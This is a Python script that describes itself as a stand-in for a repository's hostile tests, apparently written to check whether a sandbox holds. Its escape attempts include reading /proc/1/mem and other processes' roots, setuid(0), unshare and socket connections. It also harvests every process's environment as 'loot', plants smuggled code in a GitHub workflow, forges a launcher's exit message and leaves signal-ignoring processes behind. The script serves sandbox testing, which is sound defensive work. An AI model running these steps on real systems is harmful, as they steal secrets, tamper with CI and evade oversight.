"""Stands in for a repository's hostile tests: tries every way out and prints what it got.

It runs inside the sandbox with nothing but Python; `facts.json` beside it says where the prey is.
"""

import base64
import contextlib
import ctypes
import json
import os
import socket
import sys
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

CONNECT_SECONDS = 1.0
MAX_PIECE_BYTES = 4096
CLONE_NEWUSER = 0x10000000


def attempts(facts: dict[str, Any]) -> Iterator[tuple[str, Callable[[], object]]]:
    """Every way out, by name; one that returns something true has succeeded."""
    each: tuple[tuple[str, Callable[[Any], object]], ...] = (
        ("files", _read),
        ("files", _read_by_another_root),
        ("folders", _list),
        ("places_to_write", _write),
        ("places_to_write", _link),
        ("addresses", _connect),
        ("unix_sockets", _connect),
        ("pids", _see),
    )
    for prey, attempt in each:
        for value in facts[prey]:
            yield f"{attempt.__name__} {value!r}", partial(attempt, value)
    for once in (_resolve, _look_into_the_launcher, _forge_the_end, _become_root, _leave_by_unshare):
        yield once.__name__, once


def _read(path: str) -> bytes:
    return Path(path).read_bytes()[:MAX_PIECE_BYTES]


def _list(path: str) -> list[Path]:
    return list(Path(path).iterdir())


def _write(path: str) -> int:
    return Path(path).write_text("broken out")


def _link(path: str) -> bool:
    Path(path).hardlink_to("facts.json")
    return True


def _see(pid: int) -> bool:
    """Whether a process of the host is here under its number, with its own command line."""
    return b"bot." in Path(f"/proc/{pid}/cmdline").read_bytes()


def _resolve() -> object:
    return socket.getaddrinfo("github.com", 443)


def _look_into_the_launcher() -> bytes:
    with Path("/proc/1/mem").open("rb") as memory:
        return memory.read(1)


def _become_root() -> bool:
    os.setuid(0)
    return os.getuid() == 0


def _leave_by_unshare() -> bool:
    return bool(ctypes.CDLL(None).unshare(CLONE_NEWUSER) == 0)


def _read_by_another_root(path: str) -> bytes:
    """*path* as another process sees it."""
    for place in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            return Path(place, "root", path.lstrip("/")).read_bytes()[:MAX_PIECE_BYTES]
    return b""


def _connect(place: str | list[Any]) -> bool:
    """To a socket's name, or to a host and its port."""
    family = socket.AF_UNIX if isinstance(place, str) else socket.AF_INET
    with socket.socket(family) as connection:
        connection.settimeout(CONNECT_SECONDS)
        connection.connect(place if isinstance(place, str) else tuple(place))
    return True


def _forge_the_end() -> list[int]:
    """Write a launcher's last word to every descriptor that was left open for us."""
    told = []
    for fd in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(fd, b'{"exit-code": 0}\n')
            told.append(fd)
    return told


def _succeeded(attempt: Callable[[], object]) -> bool:
    try:
        return bool(attempt())
    except OSError:
        return False


def _loot() -> dict[str, str]:
    """Whatever any process here shows of itself."""
    found = {}
    for place in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline", "maps", "status", "mountinfo"):
            with contextlib.suppress(OSError):
                found[f"{place.name} {name}"] = base64.b64encode((place / name).read_bytes()).decode()
    return found


def _leave_something(facts: dict[str, Any]) -> None:
    """Change the checkout, and leave a process behind that ignores everything."""
    smuggled = facts["smuggled, backwards"][::-1]
    Path("till/money.py").write_text(smuggled)
    Path(".github/workflows").mkdir(parents=True, exist_ok=True)
    Path(".github/workflows/x.yml").write_text(smuggled)
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sh", ["sh", "-c", f"trap '' HUP INT TERM; sleep {facts['sleep']}"])
            os._exit(0)


def main() -> int:
    """Try everything; the exit code is 3, whatever happened."""
    facts = json.loads(Path("facts.json").read_text())
    succeeded = [name for name, attempt in attempts(facts) if _succeeded(attempt)]
    tried = sum(1 for _ in attempts(facts))
    sys.stdout.write(json.dumps({"succeeded": succeeded, "tried": tried, "loot": _loot()}))
    sys.stdout.flush()
    _leave_something(facts)
    return 3


if __name__ == "__main__":
    sys.exit(main())
